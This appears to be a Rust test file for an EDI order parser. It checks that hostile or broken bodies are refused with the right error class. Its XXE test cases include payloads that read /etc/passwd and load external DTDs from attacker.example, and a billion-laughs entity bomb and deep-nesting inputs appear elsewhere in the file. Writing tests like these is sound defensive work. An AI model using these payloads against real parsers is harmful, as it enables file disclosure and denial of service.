@@ -1,0 +1,147 @@
+//! Hostile and broken bodies through the public entry point: each is refused
+//! with the right class and a message a sender can act on, and none of them
+//! expands an entity, reads a file or overflows the stack.
+
+mod common;
+
+use common::fixture;
+use edihub_core::{CoreError, ErrorClass, parse_body};
+
+fn refuse(body: &[u8], content_type: Option<&str>) -> CoreError {
+    match parse_body(body, content_type) {
+        Ok(parsed) => panic!("accepted: {parsed:?}"),
+        Err(e) => e,
+    }
+}
+
+#[test]
+fn billion_laughs_is_refused_before_any_expansion() {
+    let mut doc = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
+    for i in 1..10 {
+        let prev = if i == 1 { "lol".to_string() } else { format!("lol{}", i - 1) };
+        doc.push_str(&format!(" <!ENTITY lol{i} \"{}\">\n", format!("&{prev};").repeat(10)));
+    }
+    doc.push_str("]>\n<ORDERS05><IDOC><EDI_DC40><DOCNUM>&lol9;</DOCNUM></EDI_DC40></IDOC></ORDERS05>");
+    let err = refuse(doc.as_bytes(), Some("application/xml"));
+    assert_eq!(err, CoreError::Doctype);
+    assert_eq!(err.class(), ErrorClass::Malformed);
+    assert_eq!(err.to_string(), "a DOCTYPE is not allowed (entities are never expanded)");
+}
+
+#[test]
+fn xxe_variants_are_refused() {
+    let cases = [
+        "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><r>&xxe;</r>",
+        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;]><r/>",
+        "<!DOCTYPE r SYSTEM \"http://attacker.example/x.dtd\"><r/>",
+        "<?xml version=\"1.0\"?><!-- c --><!DOCTYPE r PUBLIC \"-//X//Y\" \"x.dtd\"><r/>",
+    ];
+    for doc in cases {
+        assert_eq!(refuse(doc.as_bytes(), None), CoreError::Doctype, "{doc}");
+    }
+    let err = refuse(b"<ORDERS05><IDOC>&xxe;</IDOC></ORDERS05>", None);
+    assert_eq!(err.to_string(), "undefined entity &xxe;");
+    assert_eq!(err.class(), ErrorClass::Malformed);
+}
+
+#[test]
+fn deep_xml_is_refused_without_stack_overflow() {
+    let open = "<E1>".repeat(100_000);
+    let close = "</E1>".repeat(100_000);
+    let body = format!("<ORDERS05><IDOC>{open}{close}</IDOC></ORDERS05>");
+    let err = refuse(body.as_bytes(), Some("application/xml"));
+    assert_eq!(err.to_string(), "XML nesting deeper than 256");
+    assert_eq!(err.class(), ErrorClass::Malformed);
+}
+
+#[test]
+fn deep_json_is_refused_without_stack_overflow() {
+    for body in [
+        "[".repeat(100_000),
+        "{\"a\":".repeat(100_000),
+        format!("{{\"ORDERS05\":{}", "{\"IDOC\":".repeat(100_000)),
+    ] {
+        let err = refuse(body.as_bytes(), Some("application/json"));
+        assert_eq!(err.to_string(), "JSON nesting deeper than 128");
+        assert_eq!(err.class(), ErrorClass::Malformed);
+    }
+}
+
+#[test]
+fn every_truncation_of_the_reference_order_is_refused() {
+    let full = fixture("orders05.xml");
+    let end = full.iter().rposition(|b| *b == b'>').unwrap();
+    for cut in (1..end).step_by(7) {
+        let err = refuse(&full[..cut], Some("application/xml"));
+        assert_eq!(err.class(), ErrorClass::Malformed, "cut at {cut}: {err}");
+    }
+    let cut = String::from_utf8(full.clone()).unwrap().find("</E1EDK01>").unwrap();
+    assert_eq!(refuse(&full[..cut], None).to_string(), "XML is truncated: element <E1EDK01> is not closed");
+}
+
+#[test]
+fn every_truncation_of_the_json_order_is_refused() {
+    let full = fixture("orders05.json");
+    for cut in (1..full.len() - 2).step_by(11) {
+        // Cutting inside a multi-byte character gives invalid UTF-8; anything
+        // else is invalid JSON. Both are malformed.
+        let err = refuse(&full[..cut], Some("application/json"));
+        assert_eq!(err.class(), ErrorClass::Malformed, "cut at {cut}: {err}");
+    }
+    let err = refuse(&full[..100], None);
+    assert!(err.to_string().starts_with("invalid JSON: EOF while parsing"), "{err}");
+    assert!(err.to_string().contains("line"), "{err}");
+}
+
+#[test]
+fn truncated_utf16_is_refused() {
+    let full = fixture("orders05-utf16.xml");
+    let err = refuse(&full[..full.len() - 1], None);
+    assert_eq!(err.class(), ErrorClass::Malformed);
+    assert!(err.to_string().starts_with("invalid UTF-16LE at byte"), "{err}");
+}
+
+#[test]
+fn latin1_bytes_without_a_declaration_are_invalid_utf8() {
+    let latin1 = String::from_utf8_lossy(&fixture("orders05-latin1.xml")).into_owned();
+    assert!(latin1.contains("ISO-8859-1"));
+    let mut body = fixture("orders05-latin1.xml");
+    let decl_end = body.iter().position(|b| *b == b'\n').unwrap() + 1;
+    body.drain(..decl_end);
+    let err = refuse(&body, Some("application/xml"));
+    assert!(matches!(err, CoreError::InvalidText { encoding: "UTF-8", .. }), "{err}");
+    // ... and fine once the charset says what they are.
+    assert!(parse_body(&body, Some("application/xml; charset=ISO-8859-1")).is_ok());
+}
+
+#[test]
+fn structural_errors_have_their_classes() {
+    let cases: &[(&[u8], Option<&str>, ErrorClass, &str)] = &[
+        (b"", None, ErrorClass::Malformed, "the body is empty"),
+        (b"  \n", Some("application/json"), ErrorClass::Malformed, "the body is empty"),
+        (b"<A/>", Some("image/png"), ErrorClass::Unsupported, "unsupported content type image/png"),
+        (
+            b"a=1&b=2",
+            Some("application/x-www-form-urlencoded"),
+            ErrorClass::Unsupported,
+            "unsupported content type application/x-www-form-urlencoded",
+        ),
+        (b"<A/><B/>", None, ErrorClass::Malformed, "more than one root element: <B> after <A>"),
+        (b"<A></B>", None, ErrorClass::Malformed, "mismatched end tag: expected </A>, found </B>"),
+        (b"<A/>tail", None, ErrorClass::Malformed, "text outside the root element"),
+        (b"<ORDERS05/>", None, ErrorClass::Unusable, "no IDOC element under <ORDERS05>"),
+        (b"<X><IDOC/></X>", None, ErrorClass::Unusable, "IDoc 1 of 1 has no control record EDI_DC40"),
+        (b"[1]", None, ErrorClass::Unusable, "a plain JSON message must be an object"),
+        (b"{\"idempotencyKey\":1}", None, ErrorClass::Malformed, "idempotencyKey must be a string"),
+        (
+            b"<?xml version=\"1.0\" encoding=\"klingon\"?><A/>",
+            None,
+            ErrorClass::Malformed,
+            "unknown encoding `klingon`",
+        ),
+    ];
+    for (body, ct, class, message) in cases {
+        let err = refuse(body, *ct);
+        assert_eq!((err.class(), err.to_string().as_str()), (*class, *message));
+    }
+}
